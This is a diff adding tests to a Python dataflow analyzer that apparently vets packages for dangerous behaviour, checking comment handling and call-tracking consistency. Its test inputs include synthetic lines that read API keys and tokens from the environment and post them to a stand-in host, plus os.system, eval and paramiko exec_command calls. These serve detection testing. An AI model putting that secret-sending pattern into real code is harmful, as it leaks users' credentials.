@@ -5,13 +5,13 @@ from __future__ import annotations
 import ast
 
 import pytest
-from hypothesis import given, settings
+from hypothesis import example, given, settings
 from hypothesis import strategies as st
 
-from penstock.vet.inspect.analyzers.pyflow import interpreter, models, names
+from penstock.vet.inspect.analyzers.pyflow import calls, interpreter, models, names
 from penstock.vet.inspect.analyzers.pyflow.hits import Sink
-from penstock.vet.inspect.analyzers.pyflow.parse import Unparsed, parse, surely_shallow
-from penstock.vet.inspect.analyzers.pyflow.silent import Silence, is_loud, tokens
+from penstock.vet.inspect.analyzers.pyflow.parse import Parsed, Unparsed, parse, surely_shallow
+from penstock.vet.inspect.analyzers.pyflow.silent import Silence, code_of, is_loud, tokens
 from penstock.vet.inspect.analyzers.python import PythonAnalyzer
 from penstock.vet.inspect.rule import Inspected, Subject
 from penstock.vet.intake.bundle import Artifact, Bundle, Kind
@@ -233,3 +233,85 @@ def test_every_ascii_identifier_of_the_parser_is_a_token(text: str) -> None:
             assert node.id in found
         elif isinstance(node, ast.Attribute) and node.attr.isascii():
             assert "." + node.attr in found
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "x = 1  # eval(x)",
+        "# open the file\nprint(1)",
+        "'''a # b\n c # exec the code\n'''",
+        "x = (1, # getattr\r 2)",
+    ],
+)
+def test_words_of_comments_are_not_loud(text: str) -> None:
+    assert is_skipped(view_of(text)) == [True]
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "x = '#'; eval(x)",
+        "x = 'a # b' + eval(x)",
+        "f'''\n# {eval(x)}\n'''",
+        "x = '''# a\n'''; eval(x)",
+        "# a\reval(x)",
+        "x = 'a # b\\\n' + eval(x)",
+        "(p. # a\n # 'b'\n read_text())",
+    ],
+)
+def test_code_beside_a_number_sign_is_kept(text: str) -> None:
+    assert is_loud(tokens(code_of(text)))
+
+
+PIECES = st.lists(
+    st.sampled_from(
+        ["a", "b.c", " ", "\n", "\r", "\f", "#", "# d", "'", '"', "'''", '"""', "f'", 'f"""', "{", "}", "{a}", "\\", "=",
+         "(", ")", ";", "print e", "if 1:", "    ", "%", ">>> ", ":"]
+    ),
+    max_size=16,
+).map("".join)  # fmt: skip
+AROUND = st.tuples(PIECES, st.sampled_from(["", "x = ", "f'''", "'''", "f'", "('"]), PIECES, st.sampled_from(
+    ["", "\n", "'''", "'", "\na", "'\na", "'''\na", "'; a"]
+)).map(lambda parts: parts[0] + "\n" + parts[1] + "# d" + parts[2] + parts[3])  # fmt: skip
+
+
+@settings(max_examples=1_500, deadline=None)
+@given(PIECES | AROUND)
+def test_every_identifier_that_can_be_saved_is_left_without_comments(text: str) -> None:
+    outcome = parse(text)
+    found = tokens(code_of(text))
+    for node in ast.walk(outcome.tree) if isinstance(outcome, Parsed) else ():
+        if isinstance(node, ast.Name) and node.id != "print":
+            assert node.id in found
+        elif isinstance(node, ast.Attribute):
+            assert "." + node.attr in found
+
+
+CALLS = ("x = f(a, *b, k=a)", "y = os.getenv('API_KEY')", "a = len(y)", "print(y, sep=a)", "b = unknown.go(y, **a)",
+    "a.append(y)", "b = x.get('a', y)", "requests.post('https://x.example.com', data=[a, b, x, y])", "f = len",
+    "f = os.system if a else len", "g = lambda p: q(p)", "a = map(g, y)", "pool.submit(g, y)", "t = Thread(target=g, args=[y])",
+    "a = paramiko.SSHClient(y)", "a.exec_command(y)", "import paramiko, requests, os", "h = y.strip().isoformat()",
+    "a = h.when(y)", "b = json.dumps({'a': y, 'b': a})", "f(b)", "x = (a.b)(y)", "y = hash(y) or str(a)")  # fmt: skip
+
+
+SENT = "requests.post('https://x.example.com', data=[a, b, x, y])"
+
+
+@settings(max_examples=300, deadline=None)
+@given(st.lists(st.sampled_from(CALLS), min_size=2, max_size=9).map(lambda lines: "\n".join([*lines, SENT])))
+@example(f"import demo\ny = demo.go(k=os.getenv('B_TOKEN'))\n{SENT}")
+@example(f"y = v.go(os.getenv('B_TOKEN'))\n{SENT}")
+def test_a_call_without_its_record_gives_the_same(text: str) -> None:
+    def invoked(*given: object) -> object:
+        frame, *rest = given
+        return calls.invoke(frame, calls.Call(*rest))  # type: ignore[arg-type]
+
+    view = view_of(text, "run.py", ())
+    outcome = interpreter.analyse((view,), 100_000).analysis
+    with pytest.MonkeyPatch.context() as patch:
+        patch.setattr(calls, "called", invoked)
+        slow = interpreter.analyse((view,), 100_000).analysis
+    assert outcome.hits == slow.hits
+    assert outcome.capabilities == slow.capabilities
+    assert outcome.sites.table == slow.sites.table
